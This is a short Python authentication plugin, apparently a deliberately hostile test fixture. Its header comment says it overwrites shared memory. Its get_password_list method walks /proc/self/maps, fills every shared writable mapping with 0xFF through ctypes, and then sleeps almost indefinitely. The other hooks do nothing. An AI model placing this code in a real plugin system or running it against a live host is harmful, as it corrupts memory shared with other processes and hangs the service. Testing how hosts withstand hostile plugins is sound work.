# Writes over all memory that it shares with somebody.
import ctypes
import time


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        for line in open("/proc/self/maps"):
            span, mode, *_ = line.split()
            if mode == "rw-s":
                begin, end = (int(part, 16) for part in span.split("-"))
                ctypes.memset(begin, 0xFF, end - begin)
        time.sleep(1e9)

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
